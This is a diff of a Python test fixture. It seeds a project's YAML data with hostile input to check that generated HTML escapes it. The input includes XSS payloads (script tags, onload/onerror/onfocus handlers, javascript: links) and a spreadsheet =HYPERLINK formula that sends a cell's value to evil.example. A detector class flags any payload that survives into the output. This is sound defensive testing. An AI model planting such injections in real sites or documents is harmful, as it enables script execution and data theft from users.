@@ -29,7 +29,7 @@ CRITERION_TITLE = 'Monitoring"><svg onload=alert(5)>'
 CRITERION_QUESTION = "Is it monitored?</title><script>alert(6)</script>"
 FRAMEWORK_TITLE = "Detect {: tabindex=0 autofocus onfocus=alert(7) }"
 FRAMEWORK_MEANING = "[click me](javascript:alert(8)) <img src=x onerror=alert(9)> {: onclick=alert(10) }"
-SUMMARY = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\") see [a](//evil.example/a) and [b](/\\evil.example/b)"
+SUMMARY = '=HYPERLINK("https://evil.example/?"&A1,"x") see [a](//evil.example/a) and [b](/\\evil.example/b)'
 MARKERS = ["alert(", "onerror", "onfocus", "onload", "onclick", "javascript:"]
 
 
@@ -41,8 +41,6 @@ def _rewrite(path: Path, change) -> None:
     data = doc.data
     change(data)
     path.write_text(first + "\n" + json.dumps(data, ensure_ascii=False, default=str, indent=1) + "\n", encoding="utf-8")
-
-
 
 
 def hostile_project(folder: Path) -> Path:
@@ -61,6 +59,7 @@ def hostile_project(folder: Path) -> Path:
                         a[field] = SUMMARY
                 for src in a.get("sources") or []:
                     src["title"], src["publisher"] = name, name
+
         target = providers / f"{pid}.yaml"
         shutil.copy(template, target)
         _rewrite(target, change)
@@ -68,6 +67,7 @@ def hostile_project(folder: Path) -> Path:
     def crit(data):
         data["title"], data["question"] = CRITERION_TITLE, CRITERION_QUESTION
         data["requirements"][0]["text"] = CRITERION_QUESTION  # shown on criterion and provider pages
+
     _rewrite(folder / "data" / "criteria" / "de-monitoring.yaml", crit)
 
     def framework(data):
@@ -79,6 +79,7 @@ def hostile_project(folder: Path) -> Path:
             g["meaning"] = FRAMEWORK_MEANING
         for a in data["asset_classes"]:
             a["title"] = a["title"] + " [x](javascript:alert(12))"
+
     _rewrite(folder / "data" / "framework.yaml", framework)
     return folder
 
@@ -99,7 +100,8 @@ class _Live(html.parser.HTMLParser):
             if name.startswith("on") or name == "autofocus":
                 self.live.append(f"<{tag} {name}={value!r}>")
             if name in ("href", "src", "action", "formaction", "xlink:href") and (
-                    value.strip().lower().startswith(("javascript:", "data:text", "//", "/\\", "\\"))):
+                value.strip().lower().startswith(("javascript:", "data:text", "//", "/\\", "\\"))
+            ):
                 self.live.append(f"<{tag} {name}={value!r}>")
         if tag == "script" and not dict(attrs).get("src") and dict(attrs).get("type") != "application/json":
             self._in_script = True
@@ -108,7 +110,6 @@ class _Live(html.parser.HTMLParser):
             self.live.append(f"<script src={dict(attrs)['src']!r}>")
         if tag in ("iframe", "object", "embed", "base", "frame") or (tag == "img" and dict(attrs).get("src") == "x"):
             self.live.append(f"<{tag}>")
-
 
     def handle_data(self, data):
         if self._in_script:
